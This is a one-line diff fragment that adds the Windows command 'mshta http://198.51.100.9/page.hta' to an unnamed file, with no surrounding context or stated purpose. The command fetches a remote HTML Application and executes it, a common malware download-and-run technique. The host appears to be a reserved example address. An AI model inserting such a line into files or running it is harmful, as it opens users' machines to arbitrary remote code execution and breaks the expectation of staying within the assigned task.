@@ -1,0 +1,1 @@
+mshta http://198.51.100.9/page.hta
